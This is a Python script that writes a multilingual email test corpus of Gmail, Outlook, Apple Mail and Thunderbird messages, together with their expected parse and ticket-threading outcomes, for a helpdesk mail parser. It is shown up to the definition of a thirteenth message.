#!/usr/bin/env python3
"""Writes tests/mail/corpus/*.eml and expected.json (issue 7; tests/mail/corpus/README.md).

The messages are shaped after what real clients send (headers, boundaries, encodings, quoting);
attachments are tiny but real files (PNG, PDF, ZIP, a PE stub) so content checks see their
types. Edit a message or its expectations here and run `python3 tests/mail/make_corpus.py`;
the output is deterministic.
"""
import base64, json, zlib, struct, os, quopri
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus")
files = []  # (name, bytes, parse, outcome)

def png(w=1, h=1, color=(200, 30, 30)):
    raw = b"".join(b"\x00" + bytes(color) * w for _ in range(h))
    def chunk(t, d):
        c = struct.pack(">I", len(d)) + t + d
        return c + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + \
        chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")

def pdf(title):
    body = ("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
            "% " + title + "\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
    return body.encode()

def b64(data, width=76):
    s = base64.b64encode(data).decode()
    return "\n".join(s[i:i + width] for i in range(0, len(s), width))

def qp(text, charset="utf-8"):
    return quopri.encodestring(text.encode(charset)).decode("ascii")

def add(name, text, parse, outcome, crlf=False, raw=None):
    if raw is None:
        data = text.lstrip("\n")
        data = data.replace("\r\n", "\n")
        if crlf:
            data = data.replace("\n", "\r\n")
        raw = data.encode("latin-1") if isinstance(data, str) else data
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(raw)
    p = {"from": "", "from_name": "", "subject": "", "message_id": "", "in_reply_to": "", "references": [],
         "cc": [], "attachments": [], "inline": [], "has_html": False, "is_dsn": False, "auto_submitted": "",
         "precedence": "", "list_id": "", "list_unsubscribe": False, "x_autoreply": False, "language": "",
         "thread_index": "", "text_contains": [], "text_excludes": [], "html_excludes": []}
    p.update(parse)
    files.append({"file": name, "parse": p, "outcome": outcome})

def u(s):
    """Python str with non-ASCII -> the UTF-8 bytes as latin-1 chars (so the file holds UTF-8)."""
    return s.encode("utf-8").decode("latin-1")

def enc_b(s, cs="UTF-8"):
    return "=?%s?B?%s?=" % (cs, base64.b64encode(s.encode(cs.lower().replace("windows-", "cp"))).decode())

# ---------------------------------------------------------------- 01 Gmail, new, pt
T01 = "Olá,\n\nNão consigo acessar minha conta desde ontem. Aparece a mensagem \"senha inválida\" mesmo depois de redefinir.\n\nObrigada,\nAna Souza\n"
H01 = "<div dir=\"ltr\"><div>Olá,</div><div><br></div><div>Não consigo acessar minha conta desde ontem. Aparece a mensagem &quot;senha inválida&quot; mesmo depois de redefinir.</div><div><br></div><div>Obrigada,</div><div>Ana Souza</div></div>\n"
MSG01 = u(f"""
Received: by mail-lf1-f54.google.com with SMTP id 2adb3069b0e04-50aa3f1c2b4so1234567e87.1
        for <support@helpdesk.test>; Thu, 26 Nov 2026 07:01:12 -0800 (PST)
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=customer.test; s=20230601; t=1795705272; x=1796310072; h=to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to; bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=; b=ZmFrZQ==
MIME-Version: 1.0
From: Ana Souza <ana@customer.test>
Date: Thu, 26 Nov 2026 12:01:02 -0300
Message-ID: <CAKx7bNw1qF2Vr0m+9z8Jq3t9pLxR0s3d4G7c@mail.gmail.com>
Subject: =?UTF-8?Q?N=C3=A3o_consigo_acessar_minha_conta?=
To: support@helpdesk.test
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"

--000000000000a1b2c3d4e5f60718
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(T01)}
--000000000000a1b2c3d4e5f60718
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(H01)}
--000000000000a1b2c3d4e5f60718--
""")
add("01-gmail-new-pt.eml", MSG01, {
    "from": "ana@customer.test", "from_name": "Ana Souza", "subject": "Não consigo acessar minha conta",
    "message_id": "CAKx7bNw1qF2Vr0m+9z8Jq3t9pLxR0s3d4G7c@mail.gmail.com", "has_html": True,
    "text_contains": ["senha inválida"]}, {"result": "new_ticket", "rule": "new_ticket", "locale": "pt-BR"})

# ---------------------------------------------------------------- 02 Gmail reply pt (References -> 01)
T02 = ("Oi, tentei de novo agora e continua o mesmo erro. Estou usando o Chrome no Windows.\n\n"
       "Em qui., 26 de nov. de 2026 às 12:05, Suporte Helpdesk <\nsupport+t1-9f8e7d6c5b4a3921@helpdesk.test> escreveu:\n\n"
       "> Recebemos sua solicitação.\n>\n> Protocolo: 1\n>\n")
H02 = ("<div dir=\"ltr\">Oi, tentei de novo agora e continua o mesmo erro. Estou usando o Chrome no Windows.</div><br>"
       "<div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">Em qui., 26 de nov. de 2026 às 12:05, Suporte Helpdesk &lt;"
       "<a href=\"mailto:support+t1-9f8e7d6c5b4a3921@helpdesk.test\">support+t1-9f8e7d6c5b4a3921@helpdesk.test</a>&gt; escreveu:<br></div>"
       "<blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex\">"
       "Recebemos sua solicitação.<br><br>Protocolo: 1</blockquote></div>\n")
MSG02 = u(f"""
MIME-Version: 1.0
From: Ana Souza <ana@customer.test>
Date: Thu, 26 Nov 2026 12:20:41 -0300
References: <CAKx7bNw1qF2Vr0m+9z8Jq3t9pLxR0s3d4G7c@mail.gmail.com>
 <20261126150502.7f3a9c1e2b4d@helpdesk.test>
In-Reply-To: <20261126150502.7f3a9c1e2b4d@helpdesk.test>
Message-ID: <CAKx7bNy8Hh3QmT5+wq0Zk1d2VbA9r6uUeS4w@mail.gmail.com>
Subject: =?UTF-8?Q?Re=3A_=5B=231=5D_N=C3=A3o_consigo_acessar_minha_conta?=
To: Suporte Helpdesk <support+t1-9f8e7d6c5b4a3921@helpdesk.test>
Content-Type: multipart/alternative; boundary="000000000000b7c8d9e0f1a2b3c4"

--000000000000b7c8d9e0f1a2b3c4
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(T02)}
--000000000000b7c8d9e0f1a2b3c4
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(H02)}
--000000000000b7c8d9e0f1a2b3c4--
""")
add("02-gmail-reply-pt.eml", MSG02, {
    "from": "ana@customer.test", "from_name": "Ana Souza", "subject": "Re: [#1] Não consigo acessar minha conta",
    "message_id": "CAKx7bNy8Hh3QmT5+wq0Zk1d2VbA9r6uUeS4w@mail.gmail.com",
    "in_reply_to": "20261126150502.7f3a9c1e2b4d@helpdesk.test",
    "references": ["CAKx7bNw1qF2Vr0m+9z8Jq3t9pLxR0s3d4G7c@mail.gmail.com", "20261126150502.7f3a9c1e2b4d@helpdesk.test"],
    "has_html": True, "text_contains": ["continua o mesmo erro", "escreveu:"]},
    {"result": "reply_threaded", "rule": "references", "replies_to": "01-gmail-new-pt.eml",
     "new_text": "Oi, tentei de novo agora e continua o mesmo erro. Estou usando o Chrome no Windows.",
     "note": "In-Reply-To names our notification (unknown to a replay); References names 01. The [#1] tag may not be 01's id in a replay: References wins first."})

# ---------------------------------------------------------------- 03 Outlook new es, Windows-1252, Thread-Index
TI03 = base64.b64encode(bytes.fromhex("01DB5F3A9C") + bytes.fromhex("0123456789ABCDEF0011223344556677") + b"\x00"[:0] + bytes.fromhex("AB")).decode()
# 22 bytes: 1 reserved + 5 time + 16 guid
hdr22 = bytes.fromhex("01") + bytes.fromhex("DB5F3A9C11") + bytes.fromhex("8E2A4C6D1F3B5A7994C2E0D8B6A41357")
TI03 = base64.b64encode(hdr22).decode()
TI04 = base64.b64encode(hdr22 + bytes.fromhex("0000A1B2C3")).decode()
T03 = ("Buenos días:\r\n\r\nLa factura de noviembre (nº 2026-1187) llegó con un cargo duplicado de 149,90 €. "
       "¿Podrían revisarlo?\r\n\r\nSaludos cordiales,\r\nCarlos Méndez\r\nDepartamento de Compras\r\n")
H03 = ("<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=windows-1252\">"
       "<style><!--p.MsoNormal{margin:0cm;font-size:11.0pt;font-family:\"Calibri\",sans-serif;}--></style></head>"
       "<body lang=\"ES\" link=\"#0563C1\"><div class=\"WordSection1\"><p class=\"MsoNormal\">Buenos días:<o:p></o:p></p>"
       "<p class=\"MsoNormal\">La factura de noviembre (nº 2026-1187) llegó con un cargo duplicado de 149,90 €. ¿Podrían revisarlo?<o:p></o:p></p>"
       "<p class=\"MsoNormal\">Saludos cordiales,<br>Carlos Méndez<br>Departamento de Compras<o:p></o:p></p></div></body></html>\r\n")
MSG03 = (f"""Received: from EX01.customer.test (10.0.0.5) by EX02.customer.test (10.0.0.6) with Microsoft SMTP Server
 (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1258.28; Thu, 26 Nov 2026 16:10:03 +0100
From: =?iso-8859-1?Q?Carlos_M=E9ndez?= <carlos@customer.test>
To: "support@helpdesk.test" <support@helpdesk.test>
Subject: Cargo duplicado en la factura de noviembre
Thread-Topic: Cargo duplicado en la factura de noviembre
Thread-Index: {TI03}
Date: Thu, 26 Nov 2026 15:10:01 +0000
Message-ID: <AM0PR10MB2851C4E0F3A2B1D9E8C7A6B5F4E3D2C1@AM0PR10MB2851.eurprd10.prod.outlook.com>
Accept-Language: es-ES, en-US
Content-Language: es-ES
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Content-Type: multipart/alternative;
\tboundary="_000_AM0PR10MB2851C4E0F3A2B1D9E8C7A6B5F4E3D2C1AM0PR10MB2851eurp_"
MIME-Version: 1.0

--_000_AM0PR10MB2851C4E0F3A2B1D9E8C7A6B5F4E3D2C1AM0PR10MB2851eurp_
Content-Type: text/plain; charset="Windows-1252"
Content-Transfer-Encoding: quoted-printable

{qp(T03, 'cp1252')}
--_000_AM0PR10MB2851C4E0F3A2B1D9E8C7A6B5F4E3D2C1AM0PR10MB2851eurp_
Content-Type: text/html; charset="Windows-1252"
Content-Transfer-Encoding: quoted-printable

{qp(H03, 'cp1252')}
--_000_AM0PR10MB2851C4E0F3A2B1D9E8C7A6B5F4E3D2C1AM0PR10MB2851eurp_--
""")
add("03-outlook-new-es.eml", MSG03, {
    "from": "carlos@customer.test", "from_name": "Carlos Méndez", "subject": "Cargo duplicado en la factura de noviembre",
    "message_id": "AM0PR10MB2851C4E0F3A2B1D9E8C7A6B5F4E3D2C1@AM0PR10MB2851.eurprd10.prod.outlook.com",
    "has_html": True, "language": "es-ES", "thread_index": TI03, "text_contains": ["149,90 €", "¿Podrían revisarlo?"],
    "html_excludes": ["<style", "MsoNormal{"]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "es"}, crlf=True)

# ---------------------------------------------------------------- 04 Outlook reply es, only Thread-Index
T04 = ("Adjunto el extracto bancario donde se ve el cargo doble.\r\n\r\nCarlos\r\n\r\n"
       "________________________________\r\nDe: Carlos Méndez <carlos@customer.test>\r\nEnviado: jueves, 26 de noviembre de 2026 16:10\r\n"
       "Para: support@helpdesk.test <support@helpdesk.test>\r\nAsunto: Cargo duplicado en la factura de noviembre\r\n\r\n"
       "Buenos días:\r\n\r\nLa factura de noviembre (nº 2026-1187) llegó con un cargo duplicado de 149,90 EUR.\r\n")
MSG04 = (f"""From: =?iso-8859-1?Q?Carlos_M=E9ndez?= <carlos@customer.test>
To: "support@helpdesk.test" <support@helpdesk.test>
Subject: RE: Cargo duplicado en la factura de noviembre
Thread-Topic: Cargo duplicado en la factura de noviembre
Thread-Index: {TI04}
Date: Thu, 26 Nov 2026 15:42:17 +0000
Message-ID: <AM0PR10MB28519D8E7F6A5B4C3D2E1F0A9B8C7D6E@AM0PR10MB2851.eurprd10.prod.outlook.com>
Accept-Language: es-ES, en-US
Content-Language: es-ES
X-MS-Has-Attach: yes
Content-Type: multipart/mixed;
\tboundary="_004_AM0PR10MB28519D8E7F6A5B4C3D2E1F0A9B8C7D6EAM0PR10MB2851eurp_"
MIME-Version: 1.0

--_004_AM0PR10MB28519D8E7F6A5B4C3D2E1F0A9B8C7D6EAM0PR10MB2851eurp_
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{qp(T04, 'latin-1')}
--_004_AM0PR10MB28519D8E7F6A5B4C3D2E1F0A9B8C7D6EAM0PR10MB2851eurp_
Content-Type: application/pdf; name="extracto_noviembre.pdf"
Content-Description: extracto_noviembre.pdf
Content-Disposition: attachment; filename="extracto_noviembre.pdf"; size=215;
\tcreation-date="Thu, 26 Nov 2026 15:41:00 GMT";
\tmodification-date="Thu, 26 Nov 2026 15:41:00 GMT"
Content-Transfer-Encoding: base64

{b64(pdf('extracto noviembre'))}

--_004_AM0PR10MB28519D8E7F6A5B4C3D2E1F0A9B8C7D6EAM0PR10MB2851eurp_--
""")
add("04-outlook-reply-es-thread-index.eml", MSG04, {
    "from": "carlos@customer.test", "from_name": "Carlos Méndez", "subject": "RE: Cargo duplicado en la factura de noviembre",
    "message_id": "AM0PR10MB28519D8E7F6A5B4C3D2E1F0A9B8C7D6E@AM0PR10MB2851.eurprd10.prod.outlook.com",
    "language": "es-ES", "thread_index": TI04, "attachments": ["extracto_noviembre.pdf"],
    "text_contains": ["extracto bancario", "Enviado: jueves"]},
    {"result": "reply_threaded", "rule": "thread_index", "replies_to": "03-outlook-new-es.eml",
     "new_text": "Adjunto el extracto bancario donde se ve el cargo doble.\n\nCarlos",
     "note": "No In-Reply-To/References and no tag: only the Thread-Index conversation (03's first 22 bytes) threads it."}, crlf=True)

# ---------------------------------------------------------------- 05 Apple Mail new en
T05 = ("Hi,\n\nSince this morning the mobile app crashes as soon as I open the \"Orders\" screen. I'm on iOS 19.1, app version 4.2.0.\n\nThanks,\nJohn\n")
H05 = ("<html><head><meta http-equiv=\"content-type\" content=\"text/html; charset=us-ascii\"></head><body style=\"overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;\">"
       "Hi,<div><br></div><div>Since this morning the mobile app crashes as soon as I open the &quot;Orders&quot; screen. I'm on iOS 19.1, app version 4.2.0.</div>"
       "<div><br></div><div>Thanks,</div><div>John</div></body></html>")
MSG05 = f"""From: John Carter <john@customer.test>
Content-Type: multipart/alternative;
\tboundary="Apple-Mail=_5C1B9F3A-2D7E-4C8B-9A61-0F3E2D1C4B5A"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.200.121\\))
Subject: App crashes on the Orders screen
Message-Id: <5F7A2C1E-9B3D-4E8F-A6C2-1D0E9F8A7B6C@customer.test>
Date: Thu, 26 Nov 2026 09:15:44 -0500
To: support@helpdesk.test
X-Mailer: Apple Mail (2.3826.200.121)

--Apple-Mail=_5C1B9F3A-2D7E-4C8B-9A61-0F3E2D1C4B5A
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii

{T05}
--Apple-Mail=_5C1B9F3A-2D7E-4C8B-9A61-0F3E2D1C4B5A
Content-Transfer-Encoding: 7bit
Content-Type: text/html;
\tcharset=us-ascii

{H05}
--Apple-Mail=_5C1B9F3A-2D7E-4C8B-9A61-0F3E2D1C4B5A--
"""
add("05-apple-mail-new-en.eml", MSG05, {
    "from": "john@customer.test", "from_name": "John Carter", "subject": "App crashes on the Orders screen",
    "message_id": "5F7A2C1E-9B3D-4E8F-A6C2-1D0E9F8A7B6C@customer.test", "has_html": True,
    "text_contains": ["iOS 19.1"]}, {"result": "new_ticket", "rule": "new_ticket", "locale": "pt-BR",
                                     "note": "Apple Mail sends no language header: default pt-BR."})

# ---------------------------------------------------------------- 06 Apple Mail reply en
T06 = ("It works again after updating to 4.2.1, thank you!\n\nJohn\n\n"
       "> On Nov 26, 2026, at 10:02, Support Helpdesk <support+t3-0a1b2c3d4e5f6071@helpdesk.test> wrote:\n>\n"
       "> Hello John,\n>\n> Could you update the app to version 4.2.1 and try again?\n>\n")
MSG06 = f"""From: John Carter <john@customer.test>
Content-Type: text/plain;
\tcharset=us-ascii
Content-Transfer-Encoding: 7bit
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.200.121\\))
Subject: Re: [#3] App crashes on the Orders screen
Message-Id: <8C3D2B1A-0F9E-4D8C-B7A6-5E4D3C2B1A09@customer.test>
References: <5F7A2C1E-9B3D-4E8F-A6C2-1D0E9F8A7B6C@customer.test> <20261126150211.c0ffee42@helpdesk.test>
In-Reply-To: <20261126150211.c0ffee42@helpdesk.test>
Date: Thu, 26 Nov 2026 10:31:09 -0500
To: Support Helpdesk <support+t3-0a1b2c3d4e5f6071@helpdesk.test>
X-Mailer: Apple Mail (2.3826.200.121)

{T06}"""
add("06-apple-mail-reply-en.eml", MSG06, {
    "from": "john@customer.test", "from_name": "John Carter", "subject": "Re: [#3] App crashes on the Orders screen",
    "message_id": "8C3D2B1A-0F9E-4D8C-B7A6-5E4D3C2B1A09@customer.test", "in_reply_to": "20261126150211.c0ffee42@helpdesk.test",
    "references": ["5F7A2C1E-9B3D-4E8F-A6C2-1D0E9F8A7B6C@customer.test", "20261126150211.c0ffee42@helpdesk.test"],
    "text_contains": ["4.2.1, thank you", "wrote:"]},
    {"result": "reply_threaded", "rule": "references", "replies_to": "05-apple-mail-new-en.eml",
     "new_text": "It works again after updating to 4.2.1, thank you!\n\nJohn"})

# ---------------------------------------------------------------- 07 iPhone new pt (text only, format=flowed)
T07 = ("Bom dia, a impressora do setor financeiro parou de imprimir. Aparece \"papel atolado\" mas n=C3=A3o =\n"
       "tem papel nenhum preso.=20\n\nEnviado do meu iPhone\n")
MSG07 = f"""Content-Type: text/plain;
\tcharset=utf-8
Content-Transfer-Encoding: quoted-printable
From: Maria Oliveira <maria@customer.test>
Mime-Version: 1.0 (1.0)
Date: Thu, 26 Nov 2026 08:03:27 -0300
Subject: Impressora parada
Message-Id: <3B7E1D92-5C4A-4F0B-8E2D-7A6C9B1F0E3D@customer.test>
To: support@helpdesk.test
X-Mailer: iPhone Mail (23B85)

{T07}"""
add("07-iphone-new-pt.eml", MSG07, {
    "from": "maria@customer.test", "from_name": "Maria Oliveira", "subject": "Impressora parada",
    "message_id": "3B7E1D92-5C4A-4F0B-8E2D-7A6C9B1F0E3D@customer.test",
    "text_contains": ["não tem papel nenhum preso", "Enviado do meu iPhone"]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "pt-BR"})

# ---------------------------------------------------------------- 08 Android Gmail new es
T08 = "Hola, no me llega el código de verificación por SMS. Mi número es el +34 600 000 000.\n\nEnviado desde mi Galaxy\n"
H08 = "<div dir=\"auto\">Hola, no me llega el código de verificación por SMS. Mi número es el +34 600 000 000.<div dir=\"auto\"><br></div><div dir=\"auto\">Enviado desde mi Galaxy</div></div>\n"
MSG08 = u(f"""MIME-Version: 1.0
From: =?UTF-8?Q?Luc=C3=ADa_Fern=C3=A1ndez?= <lucia@customer.test>
Date: Thu, 26 Nov 2026 17:22:10 +0100
Message-ID: <CAH8rT2e7KqP0w9VbN3xY6mL1cZs4Fd5Gh8Jk@mail.gmail.com>
Subject: =?UTF-8?Q?No_llega_el_c=C3=B3digo_de_verificaci=C3=B3n?=
To: support@helpdesk.test
Content-Type: multipart/alternative; boundary="0000000000004f5e6d7c8b9a0a1b"

--0000000000004f5e6d7c8b9a0a1b
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: base64

{b64(T08.encode())}
--0000000000004f5e6d7c8b9a0a1b
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: base64

{b64(H08.encode())}
--0000000000004f5e6d7c8b9a0a1b--
""")
add("08-android-gmail-new-es.eml", MSG08, {
    "from": "lucia@customer.test", "from_name": "Lucía Fernández", "subject": "No llega el código de verificación",
    "message_id": "CAH8rT2e7KqP0w9VbN3xY6mL1cZs4Fd5Gh8Jk@mail.gmail.com", "has_html": True,
    "text_contains": ["código de verificación por SMS"]}, {"result": "new_ticket", "rule": "new_ticket", "locale": "pt-BR"})

# ---------------------------------------------------------------- 09 Thunderbird new en with PDF
T09 = "Hello,\n\nPlease find attached the signed contract. Could you confirm it was received?\n\nBest regards,\nPeter Novak\n"
MSG09 = f"""Message-ID: <8d2f4b1a-3c5e-4f7a-9b0c-1e2d3f4a5b6c@customer.test>
Date: Thu, 26 Nov 2026 14:48:30 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-US
To: support@helpdesk.test
From: Peter Novak <peter@customer.test>
Subject: Signed contract
Content-Type: multipart/mixed; boundary="------------0aB1cD2eF3gH4iJ5kL6mN7oP"

This is a multi-part message in MIME format.
--------------0aB1cD2eF3gH4iJ5kL6mN7oP
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

{T09}
--------------0aB1cD2eF3gH4iJ5kL6mN7oP
Content-Type: application/pdf; name="contract-signed.pdf"
Content-Disposition: attachment; filename="contract-signed.pdf"
Content-Transfer-Encoding: base64

{b64(pdf('contract signed'))}

--------------0aB1cD2eF3gH4iJ5kL6mN7oP--
"""
add("09-thunderbird-new-en.eml", MSG09, {
    "from": "peter@customer.test", "from_name": "Peter Novak", "subject": "Signed contract",
    "message_id": "8d2f4b1a-3c5e-4f7a-9b0c-1e2d3f4a5b6c@customer.test", "language": "en-US",
    "attachments": ["contract-signed.pdf"], "text_contains": ["signed contract"]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "en"})

# ---------------------------------------------------------------- 10 Outlook desktop reply en "-----Original Message-----"
T10 = ("Hi, one more thing: the contract needs the countersignature by Friday.\n\nPeter\n\n"
       "-----Original Message-----\nFrom: Support Helpdesk <support@helpdesk.test>\nSent: Thursday, November 26, 2026 3:02 PM\n"
       "To: Peter Novak <peter@customer.test>\nSubject: [#5] Signed contract\n\nHello Peter, we received your request.\n")
MSG10 = f"""From: "Peter Novak" <peter@customer.test>
To: <support@helpdesk.test>
References: <8d2f4b1a-3c5e-4f7a-9b0c-1e2d3f4a5b6c@customer.test>
In-Reply-To: <8d2f4b1a-3c5e-4f7a-9b0c-1e2d3f4a5b6c@customer.test>
Subject: RE: Signed contract
Date: Thu, 26 Nov 2026 15:20:05 +0100
Message-ID: <000001db5f41$2a3b4c50$7e8f9a0b$@customer.test>
MIME-Version: 1.0
Content-Type: text/plain;
\tcharset="us-ascii"
Content-Transfer-Encoding: 7bit
X-Mailer: Microsoft Outlook 16.0
Thread-Index: AdtfQSo7TFB+j5oLPQ8q8Vn6tD7hZw==
Content-Language: en-gb

{T10}"""
add("10-outlook-reply-en-original-message.eml", MSG10, {
    "from": "peter@customer.test", "from_name": "Peter Novak", "subject": "RE: Signed contract",
    "message_id": "000001db5f41$2a3b4c50$7e8f9a0b$@customer.test", "in_reply_to": "8d2f4b1a-3c5e-4f7a-9b0c-1e2d3f4a5b6c@customer.test",
    "references": ["8d2f4b1a-3c5e-4f7a-9b0c-1e2d3f4a5b6c@customer.test"], "language": "en-gb",
    "thread_index": "AdtfQSo7TFB+j5oLPQ8q8Vn6tD7hZw==", "text_contains": ["countersignature", "-----Original Message-----"]},
    {"result": "reply_threaded", "rule": "in_reply_to", "replies_to": "09-thunderbird-new-en.eml",
     "new_text": "Hi, one more thing: the contract needs the countersignature by Friday.\n\nPeter"})

# ---------------------------------------------------------------- 11 Gmail forward pt
T11 = ("Pessoal, encaminho a nota fiscal que veio com o CNPJ errado. Podem corrigir?\n\nPaulo\n\n"
       "---------- Forwarded message ---------\nDe: Faturamento <nfe@fornecedor.test>\nDate: qua., 25 de nov. de 2026 às 18:40\n"
       "Subject: NF-e 000123456\nTo: <paulo@customer.test>\n\n\nSegue a NF-e 000123456 referente ao pedido 7781.\n")
H11 = ("<div dir=\"ltr\">Pessoal, encaminho a nota fiscal que veio com o CNPJ errado. Podem corrigir?<div><br></div><div>Paulo<br><br>"
       "<div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">---------- Forwarded message ---------<br>De: <strong class=\"gmail_sendername\" dir=\"auto\">Faturamento</strong> "
       "<span dir=\"auto\">&lt;<a href=\"mailto:nfe@fornecedor.test\">nfe@fornecedor.test</a>&gt;</span><br>Date: qua., 25 de nov. de 2026 às 18:40<br>"
       "Subject: NF-e 000123456<br>To: &lt;<a href=\"mailto:paulo@customer.test\">paulo@customer.test</a>&gt;<br></div><br><br>"
       "<div>Segue a NF-e 000123456 referente ao pedido 7781.</div></div></div></div>\n")
MSG11 = u(f"""MIME-Version: 1.0
From: Paulo Lima <paulo@customer.test>
Date: Thu, 26 Nov 2026 09:12:55 -0300
Message-ID: <CAE1tY5fR7uI9oP2aS4dF6gH8jK0lZ3xC5vB7n@mail.gmail.com>
Subject: Fwd: NF-e 000123456
To: support@helpdesk.test
Content-Type: multipart/mixed; boundary="0000000000009a8b7c6d5e4f3a2b"

--0000000000009a8b7c6d5e4f3a2b
Content-Type: multipart/alternative; boundary="0000000000009a8b7a6d5e4f3a29"

--0000000000009a8b7a6d5e4f3a29
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(T11)}
--0000000000009a8b7a6d5e4f3a29
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(H11)}
--0000000000009a8b7a6d5e4f3a29--

--0000000000009a8b7c6d5e4f3a2b
Content-Type: application/pdf; name="NFe000123456.pdf"
Content-Disposition: attachment; filename="NFe000123456.pdf"
Content-Transfer-Encoding: base64
X-Attachment-Id: f_lx1q2w3e0
Content-ID: <f_lx1q2w3e0>

{b64(pdf('NF-e 000123456'))}
--0000000000009a8b7c6d5e4f3a2b--
""")
add("11-gmail-forward-pt.eml", MSG11, {
    "from": "paulo@customer.test", "from_name": "Paulo Lima", "subject": "Fwd: NF-e 000123456",
    "message_id": "CAE1tY5fR7uI9oP2aS4dF6gH8jK0lZ3xC5vB7n@mail.gmail.com", "has_html": True,
    "attachments": ["NFe000123456.pdf"], "text_contains": ["CNPJ errado", "Forwarded message"]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "pt-BR"})

# ---------------------------------------------------------------- 12 Outlook forward pt "-----Mensagem original-----"
T12 = ("Bom dia,\r\n\r\nRepasso o pedido do cliente abaixo; ele não consegue emitir o boleto.\r\n\r\nJúlia Castro\r\n\r\n"
       "-----Mensagem original-----\r\nDe: Cliente Final <cliente@example.test>\r\nEnviada em: quarta-feira, 25 de novembro de 2026 17:03\r\n"
       "Para: Júlia Castro <julia@customer.test>\r\nAssunto: Boleto não gera\r\n\r\nO botão \"Gerar boleto\" não faz nada.\r\n")
MSG12 = (f"""From: =?iso-8859-1?Q?J=FAlia_Castro?= <julia@customer.test>
To: "support@helpdesk.test" <support@helpdesk.test>
Subject: ENC: Boleto =?iso-8859-1?Q?n=E3o?= gera
Date: Thu, 26 Nov 2026 11:05:40 -0300
Message-ID: <CP5PR80MB4211A1B2C3D4E5F60718293A4B5C6D7E@CP5PR80MB4211.lamprd80.prod.outlook.com>
Thread-Topic: Boleto =?iso-8859-1?Q?n=E3o?= gera
Thread-Index: AdtfXk1wq2m3n4o5p6q7r8s9t0u1vw==
Accept-Language: pt-BR, en-US
Content-Language: pt-BR
MIME-Version: 1.0
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{qp(T12, 'latin-1')}""")
add("12-outlook-forward-pt-mensagem-original.eml", MSG12, {
    "from": "julia@customer.test", "from_name": "Júlia Castro", "subject": "ENC: Boleto não gera",
    "message_id": "CP5PR80MB4211A1B2C3D4E5F60718293A4B5C6D7E@CP5PR80MB4211.lamprd80.prod.outlook.com",
    "language": "pt-BR", "thread_index": "AdtfXk1wq2m3n4o5p6q7r8s9t0u1vw==",
    "text_contains": ["não consegue emitir o boleto", "-----Mensagem original-----"]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "pt-BR"}, crlf=True)

# ---------------------------------------------------------------- 13 reply pt with "-----Mensagem original-----" to 12
T13 = ("O cliente confirmou que funcionou depois da atualização. Obrigada!\r\n\r\n"
       "-----Mensagem original-----\r\nDe: Suporte Helpdesk <support@helpdesk.test>\r\nEnviada em: quinta-feira, 26 de novembro de 2026 14:30\r\n"
       "Para: Júlia Castro <julia@customer.test>\r\nAssunto: [#7] ENC: Boleto não gera\r\n\r\nCorrigimos o problema do boleto. Pode testar?\r\n")
MSG13 = (f"""From: =?iso-8859-1?Q?J=FAlia_Castro?= <julia@customer.test>
To: Suporte Helpdesk <support@helpdesk.test>
Subject: RES: ENC: Boleto =?iso-8859-1?Q?n=E3o?= gera
Date: Thu, 26 Nov 2026 15:01:12 -0300
Message-ID: <CP5PR80MB4211F0E1D2C3B4A5968778695A4B3C2D@CP5PR80MB4211.lamprd80.prod.outlook.com>
References: <CP5PR80MB4211A1B2C3D4E5F60718293A4B5C6D7E@CP5PR80MB4211.lamprd80.prod.outlook.com>
 <20261126173000.5e6f7a8b@helpdesk.test>
In-Reply-To: <20261126173000.5e6f7a8b@helpdesk.test>
Thread-Topic: Boleto =?iso-8859-1?Q?n=E3o?= gera
Thread-Index: AdtfXk1wq2m3n4o5p6q7r8s9t0u1vwABCDEF
Content-Language: pt-BR
MIME-Version: 1.0
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{qp(T13, 'latin-1')}""")
